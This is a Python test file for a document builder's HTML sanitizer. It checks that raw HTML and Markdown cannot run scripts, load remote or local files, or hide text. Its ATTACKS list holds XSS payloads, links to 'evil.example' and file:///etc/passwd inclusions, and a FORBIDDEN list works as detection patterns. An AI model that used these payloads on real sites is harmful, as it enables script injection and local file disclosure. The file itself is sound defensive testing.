"""Raw HTML shows text and pictures, and does nothing else."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markup_samples import body, codes, parse, shown

from booklet.common import xhtml
from booklet.common.xhtml import name_set
from booklet.components import Medium

if TYPE_CHECKING:
    from pathlib import Path

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1)>words</p>",
    "<img src=x.png onerror=alert(1)>",
    "<svg onload=alert(1)><title>t</title><script>alert(1)</script></svg>",
    "<svg><image href='file:///etc/passwd'/></svg>",
    "<svg><use href='http://evil.example/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe src='file:///etc/passwd'></iframe></foreignObject></svg>",
    "<svg><style>@import 'http://evil.example'</style></svg>",
    "<svg><a href='javascript:alert(1)'>x</a></svg>",
    "<svg><path fill='url(http://evil.example/a)'/></svg>",
    "<math><mtext><img src=file:///etc/passwd></mtext></math>",
    "<iframe src=file:///etc/passwd></iframe>",
    "<object data=file:///etc/passwd>words</object>",
    "<embed src=file:///etc/passwd>",
    "<form action=http://evil.example><input name=a><button>go</button></form>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<a rel=attachment href=file:///etc/passwd>words</a>",
    '<a rel="attachment" href="https://example.org">words</a>',
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<style>@import url(file:///etc/passwd)</style>",
    "<p style='background:url(file:///etc/passwd)'>words</p>",
    "<p style='position:fixed;top:0'>words</p>",
    "<p style='background:\\75rl(file:///etc/passwd)'>words</p>",
    "<p style='width:expression(alert(1))'>words</p>",
    "<p style='-weasy-link: x; content: url(x)'>words</p>",
    "<video src=file:///etc/passwd></video>",
    "<img src=file:///etc/passwd alt=words>",
    "<img src=data:image/png;base64,AAAA alt=words>",
    "<img src=//evil.example/x.png alt=words>",
    "<img src=../../../etc/passwd alt=words>",
    "<img src=/etc/passwd alt=words>",
    "<img srcset='http://evil.example/x.png 2x' src=x.png>",
    "<a href=' java\tscript:alert(1)'>words</a>",
    "<a href='data:text/html,x'>words</a>",
    "![x](http://evil.example/x.png)",
    "![x](file:///etc/passwd)",
    "[words](javascript:alert(1))",
    "[words](file:///etc/passwd)",
    "[words](//evil.example)",
    "*words*{: onclick=alert(1) style='background:url(http://evil.example)' rel=attachment }",
    "<math><mi><table><script>alert(1)</script></table></mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='&#106;avascript:alert(1)'>words</a>",
    "<image src=file:///etc/passwd>",
    "<body background=file:///etc/passwd>",
    "<table background=file:///etc/passwd><tr><td>words</td></tr></table>",
]
FORBIDDEN = (
    "alert(",
    "evil.example",
    "etc/passwd",
    "attachment",
    "@import",
    "fixed",
    "expression",
    "<script",
    "<iframe",
    "<style",
    "javascript",
    "base64",
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("context", ["{}", "Words {} here.", "> [!reflect]\n> {}", "- item {}"])
def test_nothing_runs_loads_or_hides(attack: str, context: str) -> None:
    html = body(context.format(attack))
    tags = "".join(piece.partition(">")[0] + ">" for piece in html.split("<")[1:])
    assert not [word for word in FORBIDDEN if word in tags.lower()], html
    assert codes(context.format(attack)), "the author should be told"


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_finding_names_the_line(attack: str) -> None:
    findings = parse(f"# Title\n\nWords.\n\n{attack}\n\nMore.").findings
    assert {finding.place.line for finding in findings if finding.place} == {5}


def test_harmless_html_stays() -> None:
    html = body(
        'Press <kbd>Ctrl</kbd> and <mark class="a">H<sub>2</sub>O</mark>.<br>\n\n'
        '<div class="poem" lang="fr"><p>Vers</p></div>'
    )
    assert "<kbd>Ctrl</kbd>" in html
    assert '<mark class="a">H<sub>2</sub>O</mark>.<br/>' in html
    assert '<div class="poem" lang="fr"><p>Vers</p></div>' in html


def test_markdown_works_inside_inline_and_marked_html() -> None:
    html = body('<mark>**bold**</mark>\n\n<div markdown="1">\n*em*\n</div>')
    assert "<mark><strong>bold</strong></mark>" in html
    assert "<em>em</em>" in html
    assert "markdown=" not in html


@pytest.mark.parametrize(
    "opening",
    [
        "<div>",
        "<b>",
        "<table>",
        "<script>",
        "<style>",
        "<textarea>",
        "<title>",
        "<!--",
        "<svg>",
        "<plaintext>",
        "<select>",
        "<iframe>",
        "<p>",
        "<section markdown=1>",
        "<ul>",
        "<math>",
        "<template>",
        "<frameset>",
        "<noscript>",
        "<xmp>",
        "<details>",
        "<pre>",
        "<a href=x>",
    ],
)
def test_an_unclosed_tag_swallows_nothing(opening: str) -> None:
    html = body(f"One.\n\n{opening}\n\nTwo **bold**.\n\n## Three\n\n1. **Lead** – four")
    assert "<p>Two <strong>bold</strong>.</p>" in html
    assert '<h2 id="trust-three">Three</h2>' in html
    assert 'id="trust-rule-1"' in html
    assert {"K550", "K551"} & set(codes(f"{opening}\n\nText")), html


@pytest.mark.parametrize("closing", ["</section>", "</div>", "</body>", "</p>", "</blockquote>"])
def test_a_stray_closing_tag_opens_no_box(closing: str) -> None:
    text = f"> [!facilitator]\n> {closing} hiddenword\n>\n> {closing}\n> hiddenword\n\nShown."
    for medium in Medium:
        assert "hiddenword" not in shown(text, medium)
        assert "Shown." in shown(text, medium)


def test_a_file_name_as_html_reads_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "x&amp;y").write_text("stolen")
    monkeypatch.chdir(tmp_path)
    assert "stolen" not in body("<b>x&amp;y</b>")
    (tmp_path / "secret.txt").write_text("stolen")
    assert "stolen" not in body("secret.txt")


def test_placeholders_cannot_be_forged() -> None:
    html = body("\x02wzxhzdk:0\x03 \ue0000\ue001 <b>x</b> &amp; y")
    assert html == "<p>wzxhzdk:0 0 <b>x</b> &amp; y</p>"


def test_entities_become_characters() -> None:
    assert body("&copy; 2026 AT&T &amp; Co &nbsp;x &notanentity; `&lt;`") == (
        "<p>© 2026 AT&amp;T &amp; Co \u00a0x &amp;notanentity; <code>&amp;lt;</code></p>"
    )


def test_template_text_stays_text() -> None:
    assert body("{{ secret }} {% raw %} {# x #}") == "<p>{{ secret }} {% raw %} {# x #}</p>"


def test_a_drawing_keeps_its_case_its_parts_and_gets_a_name() -> None:
    html = body(
        '<svg viewBox="0 0 9 9"><title>A dot</title><linearGradient id="g"></linearGradient>'
        '<circle id="c" r="3" fill="url(#g)"/><use href="#c"/></svg>'
    )
    assert 'viewBox="0 0 9 9" role="img"><title>A dot</title><linearGradient id="trust-g"/>' in html
    assert 'fill="url(#trust-g)"/><use href="#trust-c"/>' in html


def test_a_drawing_without_words_is_remarked_on() -> None:
    assert codes('<svg viewBox="0 0 9 9"><circle r="3"/></svg>') == ["K533"]


PAIRED = name_set(
    "div p b li ul ol table tr td a h2 dl dt dd figure figcaption details summary ruby rt svg math "
    "mi select pre span section blockquote caption th"
)
SOUP = st.recursive(
    st.sampled_from(["word", "<img/>", "<hr/>", "<li>", "</p>", "</div>", "<td>", ""]),
    lambda inner: st.tuples(st.sampled_from(sorted(PAIRED)), st.lists(inner, max_size=3)).map(
        lambda two: f"<{two[0]}>{' '.join(two[1])}</{two[0]}>"
    ),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(SOUP)
def test_any_tag_soup_becomes_html_that_readers_accept(soup: str) -> None:
    root = xhtml.parse(body(f"Some {soup} here.\n\n{soup}"))
    parents = xhtml.parents_of(root)
    for item, parent in parents.items():
        if item.tag == "li":
            assert parent.tag in {"ul", "ol"}
        if item.tag in {"ul", "ol"}:
            assert {child.tag for child in item} == {"li"}
        if item.tag in {"p", "div", "table", "ul", "figure", "h2", "section"}:
            assert not {"p", "b", "a", "span", "h2", "pre", "summary", "caption"} & {
                around.tag for around in xhtml.ancestors_of(item, parents)
            }
    if not any(f"<{one}>" in soup for one in ("select", "svg", "math", "mi")):
        assert xhtml.text_of(root).count("word") >= soup.count("word")
